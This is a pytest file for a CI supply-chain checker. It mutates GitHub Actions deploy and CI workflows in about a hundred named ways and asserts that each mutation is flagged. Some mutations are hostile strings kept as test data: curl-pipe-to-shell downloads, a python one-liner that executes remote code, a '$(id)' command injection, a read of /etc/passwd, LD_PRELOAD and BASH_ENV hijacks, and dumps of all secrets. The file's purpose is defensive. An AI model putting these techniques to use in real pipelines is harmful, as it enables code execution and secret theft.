"""The workflows as data: what the checker lets through is what stands there, and each way around it is refused."""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path

import pytest

from infra import pipeline
from infra.pipeline import find_workflow_faults
from tests.infra.templates import ROOT

CI, DEPLOY = ((ROOT / ".github" / "workflows" / f"{name}.yml").read_text() for name in ("ci", "deploy"))
CHECKOUT = "actions/checkout@de0fac2e4500dabe0009e67214ff5f5447ce83dd # v6.0.2"
CREDENTIALS = "aws-actions/configure-aws-credentials@8df5847569e6427dd6c4fb1cf565c83acfa8afa7 # v6.0.0"
DIGEST = 'run: echo "$DIGEST  motcua.tar.gz" | sha256sum --check --strict'
BUILT = '{DIGEST: "${{ needs.build.outputs.digest }}"}'
SECRET = '{EDGE_SECRET: "${{ secrets.EDGE_SECRET }}"}'
Change = Callable[[str], str]


def put(old: str, new: str, times: int = -1) -> Change:
    """Replace a text, which must be present."""

    def change(text: str) -> str:
        assert old in text, old
        return text.replace(old, new, times)

    return change


def in_job(job: str, change: Change) -> Change:
    """Change one job's text alone."""

    def changed(text: str) -> str:
        start = text.index(f"\n  {job}:\n") + 1
        following = [text.find(f"\n  {name}:\n", start) for name in ("audit", "build", "attest", "deploy")]
        end = min((at for at in following if at > 0), default=len(text))
        return text[:start] + change(text[start:end]) + text[end:]

    return changed


ATTACKS: dict[str, Change] = {
    "a tag in place of a commit": put(CHECKOUT, "actions/checkout@v6", 1),
    "a branch in place of a commit": put(CHECKOUT, "actions/checkout@main", 1),
    "a short commit": put(CHECKOUT, "actions/checkout@de0fac2e4500 # v6.0.2", 1),
    "a version with a commit's length": put(CHECKOUT, f"actions/checkout@{'v6' * 20} # v6.0.2", 1),
    "a commit without its version": put(CHECKOUT, CHECKOUT.partition(" #")[0], 1),
    "two commits of one action": put(CHECKOUT, f"actions/checkout@{'0' * 40} # v6.0.2", 1),
    "an action in a flow mapping": put(
        f"- uses: {CHECKOUT}\n        with: {{persist-credentials: false}}",
        "- {uses: actions/checkout@v6, with: {persist-credentials: false}}",
        1,
    ),
    "an action of the checkout itself": put(CHECKOUT, "./.github/actions/setup", 1),
    "an image as an action": put(CHECKOUT, "docker://alpine:latest", 1),
    "an identity for the build": in_job(
        "build", put("timeout-minutes: 30", "timeout-minutes: 30\n    permissions: {id-token: write, contents: read}")
    ),
    "an identity for the audit": in_job(
        "audit", put("timeout-minutes: 15", "timeout-minutes: 15\n    permissions: {id-token: write}")
    ),
    "an identity for every job": put(
        "permissions:\n  contents: read", "permissions:\n  contents: read\n  id-token: write"
    ),
    "every right for every job": put("permissions:\n  contents: read", "permissions: write-all"),
    "no word about rights": put("permissions:\n  contents: read\n", ""),
    "more rights for the deployment": in_job(
        "deploy", put("id-token: write", "id-token: write\n      contents: write")
    ),
    "more rights for the attestation": in_job(
        "attest", put("attestations: write", "attestations: write\n      packages: write")
    ),
    "the deployment's environment for the build": in_job(
        "build", put("timeout-minutes: 30", "timeout-minutes: 30\n    environment: prod-hue")
    ),
    "the deployment's environment for the attestation": in_job(
        "attest", put("timeout-minutes: 15", "timeout-minutes: 15\n    environment: prod-hue")
    ),
    "a deployment without its environment": put(
        "    environment: ${{ inputs.stage || 'staging' }}-${{ inputs.province || vars.STAGING_PROVINCE }}\n", ""
    ),
    "a secret for the whole deployment": in_job(
        "deploy", put("PYTHONPATH: lib", "PYTHONPATH: lib\n      EDGE_SECRET: ${{ secrets.EDGE_SECRET }}")
    ),
    "a secret for the workflow": put("jobs:", "env: {EDGE_SECRET: '${{ secrets.EDGE_SECRET }}'}\njobs:"),
    "a secret in the build": in_job("build", put("env:\n", "env:\n      KEY: ${{ secrets.EDGE_SECRET }}\n")),
    "a secret in a step of the build": in_job(
        "build", put('- run: make release STAGE="$STAGE"', f'- run: make release STAGE="$STAGE"\n        env: {SECRET}')
    ),
    "a secret inside a script": put(SECRET, "{}", 1),
    "every secret at once": put(SECRET, '{ALL: "${{ toJSON(secrets) }}"}', 1),
    "a secret for an action": in_job(
        "deploy", put("role-session-name:", "external-id: ${{ secrets.EDGE_SECRET }}\n          role-session-name:")
    ),
    "the pipeline's own token in the build": in_job(
        "build", put("STAGE: $", "GH_TOKEN: ${{ github.token }}\n      STAGE: $")
    ),
    "secrets handed on": in_job("build", put("timeout-minutes: 30", "timeout-minutes: 30\n    secrets: inherit")),
    "an expression inside a script": in_job("build", put('STAGE="$STAGE"', "STAGE=${{ inputs.stage }}")),
    "a checkout in the job with the role": in_job(
        "deploy",
        put(
            "- name: Unpack", f"- uses: {CHECKOUT}\n        with: {{persist-credentials: false}}\n      - name: Unpack"
        ),
    ),
    "a checkout that keeps its token": put("with: {persist-credentials: false}", "with: {fetch-depth: 1}", 1),
    "make in the job with the role": in_job("deploy", put("run: tar ", "run: make install && tar ")),
    "pip in the job with the role": in_job("deploy", put("run: tar ", "run: pip install boto3 && tar ")),
    "pip as a module in the job with the role": in_job(
        "deploy", put("run: tar ", "run: python3 -m pip install boto3; tar ")
    ),
    "npm in the job with the role": in_job("deploy", put("run: tar ", "run: npm ci; tar ")),
    "a system package in the job with the role": in_job(
        "deploy", put("run: tar ", "run: sudo apt-get install -y jq; tar ")
    ),
    "a download in the job with the role": in_job(
        "deploy", put("run: tar ", "run: curl -sSf https://example.org/x | sh; tar ")
    ),
    "a clone in the job with the role": in_job(
        "deploy", put("run: tar ", "run: git clone https://example.org/x; tar ")
    ),
    "another action in the job with the role": in_job(
        "deploy", put(CREDENTIALS, f"someone/helper@{'a' * 40} # v1.0.0")
    ),
    "another action in the job of the attestation": in_job("attest", put("actions/attest@", "someone/attest@", 1)),
    "an artefact taken unchecked": in_job("deploy", put(DIGEST, "run: ls")),
    "an artefact checked against itself": in_job(
        "deploy", put(BUILT, "{DIGEST: \"${{ hashFiles('motcua.tar.gz') }}\"}")
    ),
    "a check that may fail": in_job("deploy", put(DIGEST, f"{DIGEST} || true")),
    "a check that continues after a failure": in_job(
        "deploy", put(DIGEST, f"continue-on-error: true\n        {DIGEST}")
    ),
    "a check that is left out at times": in_job(
        "deploy", put(DIGEST, f"if: inputs.stage == 'staging'\n        {DIGEST}")
    ),
    "a check after unpacking": in_job(
        "deploy",
        put(
            "- name: The artefact is what was built",
            "- run: tar -xzf motcua.tar.gz\n      - name: The artefact is what was built",
        ),
    ),
    "an attestation of what was not checked": in_job("attest", put(DIGEST, "run: ls")),
    "a build that says no digest": in_job("build", put("digest: ${{", "other: ${{")),
    "a deployment that waits for no test": put(
        "needs: [verify, audit, build, attest]", "needs: [audit, build, attest]"
    ),
    "a deployment that waits for no audit": put(
        "needs: [verify, audit, build, attest]", "needs: [verify, build, attest]"
    ),
    "a deployment without provenance": put("needs: [verify, audit, build, attest]", "needs: [verify, audit, build]"),
    "a cache that others fill": in_job(
        "build", put("python-version-file: .python-version", "python-version-file: .python-version, cache: pip")
    ),
    "a service next to what is deployed": in_job(
        "build", put("timeout-minutes: 30", "timeout-minutes: 30\n    services: {db: {image: postgres}}")
    ),
    "a machine of somebody's own": put("runs-on: ubuntu-24.04", "runs-on: self-hosted", 1),
    "an image that moves": put("runs-on: ubuntu-24.04", "runs-on: ubuntu-latest", 1),
    "a container": put("runs-on: ubuntu-24.04", "runs-on: ubuntu-24.04\n    container: node:20", 1),
    "no time limit": put("    timeout-minutes: 60\n", ""),
    "started by a stranger's change": put("on:\n", "on:\n  pull_request_target:\n"),
    "started by another run": put("on:\n", "on:\n  workflow_run: {workflows: [ci]}\n"),
    "a secret in capitals": in_job("build", put("env:\n", "env:\n      KEY: ${{ SECRETS.EDGE_SECRET }}\n")),
    "a secret behind braces": in_job(
        "build", put("env:\n", "env:\n      KEY: \"${{ format('{0}', secrets.EDGE_SECRET) }}\"\n")
    ),
    "a secret behind two braces": in_job(
        "build", put("env:\n", "env:\n      KEY: \"${{ format('}}{0}', secrets.EDGE_SECRET) }}\"\n")
    ),
    "a secret over two lines": in_job(
        "build", put("env:\n", "env:\n      KEY: >-\n        ${{ inputs.stage &&\n        secrets.EDGE_SECRET }}\n")
    ),
    "all that is known of the run": in_job("build", put("env:\n", "env:\n      KEY: ${{ toJSON(github) }}\n")),
    "all of it, joined": in_job("build", put("env:\n", "env:\n      KEY: \"${{ join(github.*, ',') }}\"\n")),
    "the run's token by another spelling": in_job("build", put("env:\n", "env:\n      KEY: ${{ GitHub . Token }}\n")),
    "the run's token among the secrets of the deployment": put("secrets.EDGE_SECRET", "secrets.GITHUB_TOKEN", 1),
    "a deployment whatever failed": in_job(
        "deploy", put("timeout-minutes: 60", "timeout-minutes: 60\n    if: always()")
    ),
    "a step of the deployment whatever failed": in_job(
        "deploy", put("- name: Main stack", "- name: Main stack\n        if: always()")
    ),
    "tests that may fail": in_job(
        "verify", put("timeout-minutes: 45", "timeout-minutes: 45\n    continue-on-error: true")
    ),
    "a step of the tests that may fail": in_job(
        "verify", put("- run: make check", "- continue-on-error: true\n        run: make check")
    ),
    "tests that are left out": in_job("verify", put("timeout-minutes: 45", "timeout-minutes: 45\n    if: false")),
    "tests that test nothing": in_job("verify", put("make check lint-infra test", "true")),
    "tests whose failure is swallowed": in_job("verify", put("lint-infra test", "lint-infra test || true")),
    "an audit that forgives": in_job("audit", put("make audit RELEASE=1", "make audit")),
    "another shell": in_job(
        "deploy", put("- name: Unpack", "- name: Unpack\n        shell: bash -c 'curl https://example.org | sh' {0}")
    ),
    "another shell for all": put("jobs:", "defaults: {run: {shell: 'sh {0}'}}\njobs:"),
    "another shell for the deployment": in_job(
        "deploy", put("timeout-minutes: 60", "timeout-minutes: 60\n    defaults: {run: {shell: 'sh {0}'}}")
    ),
    "a check that a word swallows": in_job("deploy", put(DIGEST, f"{DIGEST} ||true")),
    "a check that a colon swallows": in_job(
        "deploy", put(DIGEST, DIGEST.replace("run: ", "run: |\n          ") + " || :")
    ),
    "a check in the background": in_job("deploy", put(DIGEST, f"{DIGEST} &")),
    "a check of a missing file": in_job("deploy", put(DIGEST, f"{DIGEST} --ignore-missing")),
    "a check of another file": in_job("deploy", put('$DIGEST  motcua.tar.gz"', '$DIGEST  sbom.cdx.json"')),
    "a check before another artefact is taken": in_job(
        "deploy",
        put(
            "- name: Unpack",
            "- uses: actions/download-artifact@37930b1c2abaa49bbe596cd826c3c89aef350131 # v7.0.0\n"
            "        with: {name: release}\n      - name: Unpack",
        ),
    ),
    "an artefact of another run": in_job("deploy", put("with: {name: release}", "with: {name: release, run-id: '1'}")),
    "a program typed into the job with the role": in_job(
        "deploy",
        put("run: tar ", "run: python3 -c 'import urllib.request as u; exec(u.urlopen(\"http://x\").read())'; tar "),
    ),
    "a program of the artefact's data": in_job("deploy", put("run: tar ", "run: bash package/x.sh; tar ")),
    "another module of the artefact": in_job("deploy", put("infra.deploy_web", "infra.local.run")),
    "a command inside a parameter": in_job("deploy", put('"SiteOrigin=$SITE_ORIGIN"', '"SiteOrigin=$(id)"')),
    "a command behind the deployment": in_job("deploy", put("--package package", "--package package; id;")),
    "libraries from elsewhere": in_job("deploy", put("PYTHONPATH: lib", "PYTHONPATH: elsewhere")),
    "a file that the shell reads first": in_job("deploy", put("env:\n", "env:\n      BASH_ENV: x\n", 1)),
    "a library before all others": in_job("deploy", put("env:\n", "env:\n      LD_PRELOAD: x\n", 1)),
    "a key from a variable": in_job("deploy", put("env:\n", "env:\n      AWS_ACCESS_KEY_ID: ${{ vars.KEY }}\n", 1)),
    "another registry for the build": in_job("build", put("env:\n", "env:\n      PIP_INDEX_URL: https://x.org\n")),
    "another registry for the pages": in_job(
        "build", put("env:\n", "env:\n      npm_config_registry: https://x.org\n")
    ),
    "a registry by an action": in_job(
        "build", put('{node-version: "22"}', '{node-version: "22", registry-url: "https://x"}')
    ),
    "a cache by an action of its own": in_job(
        "build", put("- run: make release", f"- uses: actions/cache@{'a' * 40} # v5.0.0\n      - run: make release")
    ),
    "something more in the build": in_job(
        "build", put("- id: release", "- run: cp /etc/passwd build/release/\n      - id: release")
    ),
    "a digest that somebody types": in_job("build", put("${{ steps.release.outputs.digest }}", "${{ inputs.stage }}")),
    "a role that somebody types": in_job("deploy", put("${{ vars.DEPLOY_ROLE_ARN }}", "${{ inputs.province }}")),
    "an attestation of every file": in_job("attest", put("subject-path: motcua.tar.gz", "subject-path: '*'")),
    "an action in another spelling": put(
        f"{CHECKOUT}\n        with: {{persist-credentials: false}}",
        CHECKOUT.replace("actions/checkout", "Actions/Checkout"),
        1,
    ),
    "an action of somebody in the build": in_job("build", put(CHECKOUT, f"someone/checkout@{'a' * 40} # v6.0.2")),
    "a checkout of another repository": in_job(
        "build", put("with: {persist-credentials: false}", "with: {persist-credentials: false, repository: someone/x}")
    ),
    "a job beside with an identity": put(
        "  audit:\n",
        "  ship:\n    runs-on: ubuntu-24.04\n    timeout-minutes: 5\n    permissions: {id-token: write}\n"
        "    steps: [{run: id}]\n  audit:\n",
    ),
    "a job beside without one": put(
        "  audit:\n", "  ship:\n    runs-on: ubuntu-24.04\n    timeout-minutes: 5\n    steps: [{run: id}]\n  audit:\n"
    ),
    "a matrix of machines": in_job(
        "build", put("timeout-minutes: 30", "timeout-minutes: 30\n    strategy: {matrix: {a: [1]}}")
    ),
    "a time limit of a week": put("timeout-minutes: 60", "timeout-minutes: 10080"),
    "a time limit that is true": put("timeout-minutes: 60", "timeout-minutes: true"),
    "started by a star": put("on:\n", "on:\n  watch: {types: [started]}\n"),
    "started by a review": put("on:\n", "on:\n  pull_request_review:\n"),
    "started by a page of the wiki": put("on:\n", "on:\n  gollum:\n"),
    "started by a call from elsewhere": put("on:\n", "on:\n  repository_dispatch:\n"),
    "started by every branch": put('tags: ["v*"]', 'branches: ["**"]'),
    "started by every push": put('  push:\n    tags: ["v*"]\n', "  push:\n"),
    "started twice over": put("on:\n", '"on": [issue_comment]\non:\n'),
    "a workflow of others": put(
        "  audit:\n", f"  other:\n    uses: someone/flows/.github/workflows/x.yml@{'a' * 40} # v1.0.0\n  audit:\n"
    ),
}


@pytest.mark.parametrize("name", ATTACKS)
def test_a_way_around_the_pipeline_is_refused(name: str) -> None:
    changed = ATTACKS[name](DEPLOY)
    if name == "a secret inside a script":
        changed = changed.replace('"EdgeSecret=$EDGE_SECRET"', '"EdgeSecret=${{ secrets.EDGE_SECRET }}"')
    assert changed != DEPLOY
    assert find_workflow_faults("deploy", changed)


@pytest.mark.parametrize("name", ["ci", "release", "Deploy", "deploy2"])
def test_an_identity_is_held_by_the_deploying_workflow_alone(name: str) -> None:
    """A second file could hold jobs of the same names, without the checks that go with them."""
    assert find_workflow_faults(name, DEPLOY)


@pytest.mark.parametrize(
    "changed",
    [
        CI.replace("pull_request:", "pull_request_target:"),
        CI.replace("run: make audit", "run: make audit\n        env: {KEY: '${{ Secrets.EDGE_SECRET }}'}"),
        CI.replace("run: make audit", "run: make audit\n        env: {NODE_OPTIONS: '--require ./x'}"),
        CI.replace("contents: read", "contents: read\n  packages: write"),
        CI.replace("timeout-minutes: 15", "timeout-minutes: 15\n    permissions: {id-token: write}", 1),
        CI.replace("runs-on: ubuntu-24.04", "runs-on: [self-hosted]", 1),
        CI.replace("persist-credentials: false", "persist-credentials: 'false'", 1),
        CI.replace("jobs:", "jobs:\n  other: someone"),
    ],
)
def test_what_runs_for_everybody_holds_nothing(changed: str) -> None:
    assert changed != CI
    assert find_workflow_faults("ci", changed)


def test_what_stands_there_has_no_fault() -> None:
    assert pipeline.find_faults() == []
    assert find_workflow_faults("deploy", DEPLOY) == []
    assert find_workflow_faults("ci", CI) == []


def test_every_file_of_the_folder_is_read_and_one_that_is_no_workflow_is_a_fault(tmp_path: Path) -> None:
    (tmp_path / "other.yaml").write_text(ATTACKS["a tag in place of a commit"](DEPLOY))
    (tmp_path / "broken.yml").write_text("jobs: []")
    (tmp_path / "torn.yml").write_text("jobs: {")
    faults = pipeline.find_faults(tmp_path)
    assert {"broken: no workflow", "torn: no workflow"} <= set(faults)
    assert any(fault.startswith("other: actions/checkout@v6 is not pinned") for fault in faults)


def test_a_secret_is_only_where_the_stack_needs_it() -> None:
    assert DEPLOY.count("secrets.") == 2
    assert "secrets." not in CI
